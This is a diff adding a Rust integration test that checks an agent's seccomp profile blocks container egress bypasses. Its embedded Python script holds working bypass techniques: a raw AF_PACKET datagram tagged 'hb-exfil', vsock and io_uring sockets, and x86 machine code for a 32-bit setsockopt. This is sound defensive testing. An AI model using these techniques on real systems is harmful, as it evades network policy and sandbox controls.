@@ -1,0 +1,282 @@
+//! A pod under hb's seccomp profile (`hb-agent sandbox seccomp-profile`), run by a real
+//! container runtime (runc) in a cgroup the agent enrolled, as a kubelet would run it:
+//! what goes around the cgroup hooks in a pod without the profile is refused with it.
+//!
+//! Each run is one container (root, `CAP_NET_RAW` as runtimes grant by default, the
+//! test's network namespace, a read-only root of the host's `/usr` and `/etc`) whose
+//! cgroup is a child of an enrolled pod cgroup; it tries, in order:
+//! - a UDP datagram to an address the policy does not allow (the hooks refuse it: the
+//!   control that the container is enforced at all);
+//! - the same datagram written through a packet socket (`AF_PACKET`), which no cgroup
+//!   hook sees;
+//! - opening an `AF_VSOCK` socket (to the hypervisor's host on a VM node; nothing is
+//!   sent) and an io_uring (whose `IORING_OP_SOCKET` opens any family);
+//! - a 32-bit `setsockopt` (`int $0x80`), which skips every cgroup sockopt program.
+//!
+//! Without the profile (the control that the attacks work) the packet socket's datagram
+//! arrives and the rest opens or succeeds; with it, each is refused (`EPERM`) and the
+//! 32-bit call kills the process (`SIGSYS`, the runtime's bad-architecture action).
+
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    process::{Command, Output, Stdio},
+    thread,
+    time::Duration,
+};
+
+use hb_tests::{TestEnv, UdpProbe, pod_glob, private_netns, random_suffix};
+use serde_json::{Value, json};
+
+/// Allowed by the policy (a static CIDR).
+const ALLOWED4: &str = "203.0.113.10";
+/// Held by the test's namespace, not allowed: the listener the attacks aim at.
+const OTHER4: &str = "203.0.113.20";
+/// An address the host does not hold (the packet socket's datagram's source: one of
+/// the host's own would be a martian on `lo`).
+const FOREIGN4: &str = "198.51.100.1";
+
+/// The attacks, in order; each prints `LABEL RESULT`. argv: the listener's port.
+const PY_ATTACKS: &str = r#"
+import ctypes, errno, mmap, socket, struct, sys
+port = int(sys.argv[1])
+libc = ctypes.CDLL(None, use_errno=True)
+def attempt(label, f):
+    try:
+        print(label, f() or "ok", flush=True)
+    except OSError as e:
+        print(label, errno.errorcode.get(e.errno, str(e)), flush=True)
+def csum(b):
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
+    return ~s & 0xffff
+def datagram(label):
+    payload = b"hb-exfil:" + label.encode()
+    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton("FOREIGN4"), socket.inet_aton("OTHER4"))
+    return ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + udp
+def udp():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hb-exfil:udp", ("OTHER4", port))
+def packet():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
+    s.sendto(datagram("packet"), ("lo", 0x0800, 0, 0, bytes(6)))
+def vsock():
+    socket.socket(40, socket.SOCK_STREAM).close()
+def io_uring():
+    params = ctypes.create_string_buffer(120)
+    fd = libc.syscall(425, 4, params)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), "io_uring_setup")
+def compat():
+    # push rbx; mov ebx,edi; mov edi,r8d; xchg esi,ecx; mov eax,366; int 0x80; pop rbx; ret
+    code = bytes.fromhex("5389fb4489c787ceb86e010000cd805bc3")
+    anon = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+    exe = mmap.mmap(-1, 4096, flags=anon, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    exe.write(code)
+    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_ulong,
+                            ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(exe)))
+    low = mmap.mmap(-1, 4096, flags=anon | 0x40, prot=mmap.PROT_READ | mmap.PROT_WRITE)
+    low.write(struct.pack("@i", 1))
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    rc = call(s.fileno(), socket.SOL_SOCKET, socket.SO_REUSEADDR,
+              ctypes.addressof(ctypes.c_char.from_buffer(low)), 4)
+    if rc < 0:
+        raise OSError(-rc, "setsockopt")
+attempt("udp", udp)
+attempt("packet", packet)
+attempt("vsock", vsock)
+attempt("io_uring", io_uring)
+print("begin32", flush=True)
+attempt("compat", compat)
+"#;
+
+/// A runc bundle: a root of empty mount points (the host's `/usr` and `/etc` bound
+/// read-only over them), the container in `cgroup` (below the cgroup2 mount), the
+/// profile `seccomp` if any. Removed on drop.
+struct Bundle {
+    dir: PathBuf,
+}
+
+impl Bundle {
+    fn new(cgroup: &str, seccomp: Option<&Value>, args: &[&str]) -> Self {
+        let dir = std::env::temp_dir().join(format!("hb-runc-{}", random_suffix()));
+        let root = dir.join("rootfs");
+        for d in ["usr", "etc", "tmp", "proc", "dev"] {
+            fs::create_dir_all(root.join(d)).expect("bundle folders");
+        }
+        for link in ["bin", "lib", "lib64", "sbin"] {
+            let host = Path::new("/").join(link);
+            if host.is_symlink() {
+                let target = fs::read_link(&host).expect("merged-/usr link");
+                std::os::unix::fs::symlink(target, root.join(link)).expect("link");
+            } else if host.is_dir() {
+                fs::create_dir_all(root.join(link)).expect("folder");
+            }
+        }
+        let mut config = runc_spec(&dir);
+        config["root"] = json!({"path": "rootfs", "readonly": true});
+        config["process"]["terminal"] = json!(false);
+        config["process"]["args"] = json!(args);
+        for set in ["bounding", "effective", "permitted"] {
+            config["process"]["capabilities"][set]
+                .as_array_mut()
+                .expect("capabilities")
+                .push(json!("CAP_NET_RAW"));
+        }
+        let mounts = config["mounts"].as_array_mut().expect("mounts");
+        // No sysfs: this namespace is the test's, which a new sysfs mount would need as its own.
+        mounts.retain(|m| {
+            !m["destination"]
+                .as_str()
+                .is_some_and(|d| d.starts_with("/sys"))
+        });
+        for d in ["/usr", "/etc"] {
+            mounts.push(
+                json!({"destination": d, "type": "bind", "source": d, "options": ["rbind", "ro"]}),
+            );
+        }
+        for d in ["/lib", "/lib64", "/bin", "/sbin"] {
+            if Path::new(d).is_dir() && !Path::new(d).is_symlink() {
+                mounts.push(json!({"destination": d, "type": "bind", "source": d, "options": ["rbind", "ro"]}));
+            }
+        }
+        let linux = &mut config["linux"];
+        linux["namespaces"]
+            .as_array_mut()
+            .expect("namespaces")
+            .retain(|n| n["type"] != "network");
+        linux["cgroupsPath"] = json!(format!("/{cgroup}"));
+        if let Some(profile) = seccomp {
+            linux["seccomp"] = profile.clone();
+        }
+        fs::write(
+            dir.join("config.json"),
+            serde_json::to_vec_pretty(&config).expect("json"),
+        )
+        .expect("config.json");
+        Bundle { dir }
+    }
+
+    /// `runc run` of the bundle to its end (runc's state kept in the bundle).
+    fn run(&self) -> Output {
+        Command::new("runc")
+            .arg("--root")
+            .arg(self.dir.join("state"))
+            .args(["run", "--bundle"])
+            .arg(&self.dir)
+            .arg(format!("hb-{}", random_suffix()))
+            .stdin(Stdio::null())
+            .output()
+            .expect("runc (cargo xtask setup installs it)")
+    }
+}
+
+impl Drop for Bundle {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// runc's own default `config.json` (`runc spec`), read back.
+fn runc_spec(dir: &Path) -> Value {
+    let out = Command::new("runc")
+        .args(["spec", "--bundle"])
+        .arg(dir)
+        .output()
+        .expect("runc (cargo xtask setup installs it)");
+    assert!(out.status.success(), "runc spec: {out:?}");
+    let text = fs::read(dir.join("config.json")).expect("runc spec's config.json");
+    serde_json::from_slice(&text).expect("runc spec's JSON")
+}
+
+/// The value printed after `label` (`LABEL RESULT` lines), or "-" if none.
+fn result<'a>(out: &'a str, label: &str) -> &'a str {
+    out.lines()
+        .find_map(|l| l.strip_prefix(label)?.strip_prefix(' '))
+        .unwrap_or("-")
+}
+
+/// One container of the pod `pod` (its cgroup a child of the pod's) running the
+/// attacks, with or without `profile`; its output and how many of its datagrams the
+/// listener got.
+fn attacks(pod: &str, profile: Option<&Value>, probe: &UdpProbe) -> (Output, String, usize) {
+    let before = probe.received();
+    let script = PY_ATTACKS
+        .replace("FOREIGN4", FOREIGN4)
+        .replace("OTHER4", OTHER4);
+    let port = probe.addr.port().to_string();
+    let bundle = Bundle::new(
+        &format!("{pod}/c-{}", random_suffix()),
+        profile,
+        &["/usr/bin/python3", "-c", &script, &port],
+    );
+    let out = bundle.run();
+    thread::sleep(Duration::from_millis(300));
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    (out, text, probe.received() - before)
+}
+
+#[test]
+fn a_pod_under_hbs_profile_opens_nothing_the_hooks_cannot_see() {
+    private_netns(&[ALLOWED4, OTHER4]);
+    let mut env = TestEnv::new(
+        "podsec",
+        &format!(
+            "[egress]\nexception_cidrs = [\"203.0.113.0/24\"]\n\n[[policy]]\nname = \"narrow\"\n\
+             allow_cidrs = [\"{ALLOWED4}\"]\n{}",
+            pod_glob("narrow")
+        ),
+    );
+    env.start_agent();
+    let out = env.hb(&["sandbox", "seccomp-profile", "--policy", "narrow"]);
+    assert!(out.status.success(), "seccomp-profile: {out:?}");
+    let profile: Value = serde_json::from_slice(&out.stdout).expect("the profile is JSON");
+    let unknown = env.hb(&["sandbox", "seccomp-profile", "--policy", "nope"]);
+    assert!(
+        unknown.status.code() == Some(1)
+            && String::from_utf8_lossy(&unknown.stderr).contains("nope"),
+        "an unknown policy is an error that names it: {unknown:?}"
+    );
+    let probe = UdpProbe::bind(&format!("{OTHER4}:0"));
+    let pod = env.root_pod("narrow");
+
+    let (bare, bare_text, bare_arrived) = attacks(&pod.rel, None, &probe);
+    eprintln!(
+        "figure: a pod without the profile: {bare_text:?}, {bare_arrived} datagram(s) at the \
+         unvalidated {OTHER4}; exit {:?}",
+        bare.status.code()
+    );
+    assert_eq!(
+        result(&bare_text, "udp"),
+        "EPERM",
+        "the control: the container's UDP is judged by hb ({bare:?})"
+    );
+    assert_eq!(
+        (result(&bare_text, "packet"), bare_arrived),
+        ("ok", 1),
+        "the control: without the profile the packet socket's datagram arrives ({bare:?})"
+    );
+    assert_eq!(result(&bare_text, "io_uring"), "ok", "{bare:?}");
+    assert_eq!(result(&bare_text, "compat"), "ok", "{bare:?}");
+
+    let (held, text, arrived) = attacks(&pod.rel, Some(&profile), &probe);
+    eprintln!(
+        "figure: a pod under hb's profile: {text:?}, {arrived} datagram(s) at {OTHER4}; exit \
+         {:?}",
+        held.status.code()
+    );
+    assert_eq!(result(&text, "udp"), "EPERM", "{held:?}");
+    assert_eq!(result(&text, "packet"), "EPERM", "{held:?}");
+    assert_eq!(arrived, 0, "a datagram reached {OTHER4}: {held:?}");
+    assert_eq!(result(&text, "vsock"), "EPERM", "{held:?}");
+    assert_eq!(result(&text, "io_uring"), "EPERM", "{held:?}");
+    assert!(
+        result(&text, "compat") == "-" && text.contains("begin32"),
+        "the 32-bit call returned: {held:?}"
+    );
+    assert_eq!(
+        held.status.code(),
+        Some(128 + libc::SIGSYS),
+        "runc passes on the container's exit: SIGSYS at the 32-bit call ({held:?})"
+    );
+}
